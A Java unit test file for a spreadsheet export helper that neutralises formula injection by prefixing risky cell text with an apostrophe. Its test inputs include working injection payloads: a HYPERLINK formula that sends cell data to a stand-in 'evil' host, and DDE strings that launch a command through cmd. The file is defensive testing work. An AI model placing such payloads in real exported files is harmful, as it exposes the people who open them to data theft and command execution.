package uk.send.platform.export;

import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.time.LocalDate;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetTextTest {

    @Test
    void shouldQuoteTextStartingWithEachTriggerCharacter() {
        assertThat(SpreadsheetText.text("=HYPERLINK(\"http://evil/?\"&A1,\"click\")")).isEqualTo("'=HYPERLINK(\"http://evil/?\"&A1,\"click\")");
        assertThat(SpreadsheetText.text("+1+cmd|' /C calc'!A0")).isEqualTo("'+1+cmd|' /C calc'!A0");
        assertThat(SpreadsheetText.text("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(SpreadsheetText.text("@SUM(1+1)*cmd|' /C calc'!A0")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(SpreadsheetText.text("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(SpreadsheetText.text("\rabc")).isEqualTo("'\rabc");
        assertThat(SpreadsheetText.text("\tplain")).isEqualTo("'\tplain");
        assertThat(SpreadsheetText.text("\uFF1D1+1")).isEqualTo("'\uFF1D1+1");
    }

    @Test
    void shouldQuoteATriggerAfterLeadingWhiteSpace() {
        assertThat(SpreadsheetText.text("  =1+1")).isEqualTo("'  =1+1");
        assertThat(SpreadsheetText.text(" -5")).isEqualTo("' -5");
        assertThat(SpreadsheetText.text("\u00A0@x")).isEqualTo("'\u00A0@x");
        assertThat(SpreadsheetText.text("\n+1")).isEqualTo("'\n+1");
        assertThat(SpreadsheetText.text("   ")).isEqualTo("   ");
        assertThat(SpreadsheetText.text(" plain -1")).isEqualTo(" plain -1");
    }

    @Test
    void shouldQuoteNegativeLookingTextButNeverANumber() {
        assertThat(SpreadsheetText.text("-5")).isEqualTo("'-5");
        assertThat(SpreadsheetText.text("-125.00")).isEqualTo("'-125.00");
        assertThat(SpreadsheetText.cell(new BigDecimal("-125.00"))).isEqualTo(new BigDecimal("-125.00"));
        assertThat(SpreadsheetText.cell(-4)).isEqualTo(-4);
        assertThat(SpreadsheetText.cell(LocalDate.of(2025, 4, 1))).isEqualTo(LocalDate.of(2025, 4, 1));
        assertThat(SpreadsheetText.cell(new StringBuilder("=1"))).isEqualTo("'=1");
    }

    @Test
    void shouldLeaveNullEmptyAndPlainTextAlone() {
        assertThat(SpreadsheetText.text(null)).isNull();
        assertThat(SpreadsheetText.cell(null)).isNull();
        assertThat(SpreadsheetText.text("")).isEmpty();
        assertThat(SpreadsheetText.text("Needs 1:1 support at unstructured times")).isEqualTo("Needs 1:1 support at unstructured times");
        assertThat(SpreadsheetText.text("2025-04-01")).isEqualTo("2025-04-01");
        assertThat(SpreadsheetText.text("a=b")).isEqualTo("a=b");
        assertThat(SpreadsheetText.text("'quoted")).isEqualTo("'quoted");
        assertThat(SpreadsheetText.text("Band appeal upheld: band B2 → B3 from 2025-04-01")).isEqualTo("Band appeal upheld: band B2 → B3 from 2025-04-01");
    }

    @Test
    void shouldReadBackExactlyWhatWasWrittenWithoutQuotingTwice() {
        for (String typed : new String[]{"=1+1", " -5", "\tx", "plain", "'quoted", "", "-", "@"}) {
            String written = SpreadsheetText.text(typed);
            assertThat(SpreadsheetText.read(written)).isEqualTo(typed);
            assertThat(SpreadsheetText.text(SpreadsheetText.read(written))).isEqualTo(written);
        }
        assertThat(SpreadsheetText.read(null)).isNull();
        assertThat(SpreadsheetText.read("'")).isEqualTo("'");
        assertThat(SpreadsheetText.read("'plain")).isEqualTo("'plain");
    }
}
